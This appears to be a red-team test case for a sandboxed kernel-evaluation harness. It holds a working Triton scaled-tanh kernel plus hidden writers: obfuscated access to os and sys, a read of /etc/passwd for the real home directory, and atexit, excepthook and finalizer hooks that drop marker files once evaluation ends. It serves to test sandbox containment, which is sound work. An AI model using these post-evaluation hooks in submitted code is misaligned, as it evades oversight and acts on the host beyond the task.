# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=no_write_outside expect=ok|forbidden|runtime_error|compile_error device=any markers={home}/drk-redteam-markers/a04,{tmp}/drk-redteam-marker-a04
"""Does the work correctly, but registers writers that run later, when the evaluation is over:
 `weakref.finalize` on the model, an `atexit` handler (reached through torch.utils.data._utils.atexit) and
 `sys.excepthook`. `ok` is acceptable for the verdict; the test checks that no marker appears on the
 host once the pool has shut down."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import weakref
import io
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)

def _home():
    """The real home directory of this uid (HOME may point elsewhere): read from /etc/passwd."""
    import io
    try:
        uid = str(_os.getuid())
        for line in io.FileIO("/etc/passwd").read().decode().splitlines():
            f = line.split(":")
            if len(f) > 5 and f[2] == uid:
                return f[5]
    except Exception:
        pass
    return "/root"


MARK = _home() + "/drk-redteam-markers/"


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out

def _mark(*_a):
    for p in (MARK + "a04", "/tmp/drk-redteam-marker-a04"):
        try:
            with io.FileIO(p, "w") as f:
                f.write(b"drk-redteam a04\n")
        except Exception:
            pass


functools.reduce(getattr, ("utils", "data", "_utils", "atexit"), torch).register(_mark)
_sys.excepthook = _mark


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))
        weakref.finalize(self, _mark)

    def forward(self, x):
        return stb(x, self.bias, self.scale)
